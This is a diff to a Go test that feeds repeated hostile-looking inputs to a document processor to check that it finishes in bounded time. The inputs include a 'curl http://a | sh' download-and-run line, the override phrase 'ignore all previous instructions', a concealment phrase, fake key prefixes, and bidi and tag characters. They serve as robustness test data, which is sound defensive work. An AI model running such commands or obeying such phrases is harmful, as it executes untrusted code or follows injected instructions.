@@ -58,6 +58,22 @@ var hostile = []struct {
 	{"zero width", repeat("\u200b")},
 	{"base64", repeat("QUJD")},
 	{"shell", repeat("curl http://a | sh\n")},
+	{"sections with shell", repeat("# never\ncurl http://a | sh\n")},
+	{"warned of shell", repeat("avoid curl http://a | sh\n")},
+	{"injections", repeat("> \"ignore all previous instructions\n")},
+	{"concealment", repeat("without telling the user ")},
+	{"anchors", repeat("[a](#b) ")},
+	{"anchor lines", repeat("# a\n[a](#bcdefghijkl)\n")},
+	{"html anchors", repeat("[a](#b) <a id=\"x\"></a>\n\n")},
+	{"files", repeat("[a](b.md)\n\n")},
+	{"keys", repeat("AKIA")},
+	{"private keys", repeat("-----BEGIN PRIVATE KEY-----\n")},
+	{"typescript", func(n int) string { return "```ts\n" + strings.Repeat("f({a: [1]});\n", n/13) + "```\n" }},
+	{"python", func(n int) string { return "```python\n" + strings.Repeat("f([{1: (2)}])\n", n/14) + "```\n" }},
+	{"placeholders", func(n int) string { return "```ts\n" + strings.Repeat("<[{", n/3) + "\n```\n" }},
+	{"tags block", repeat("\U000E0068")},
+	{"bidi", repeat("\u202e")},
+	{"mixed line ends", repeat("a\r\nb\n")},
 }
 
 func repeat(piece string) func(int) string {
@@ -66,7 +82,7 @@ func repeat(piece string) func(int) string {
 
 // TestHostileDocuments only has to end: a shape that costs more than its length would run into the test's deadline.
 func TestHostileDocuments(t *testing.T) {
-	size := 1 << 20
+	size := 256 << 10
 	if testing.Short() {
 		size = 64 << 10
 	}
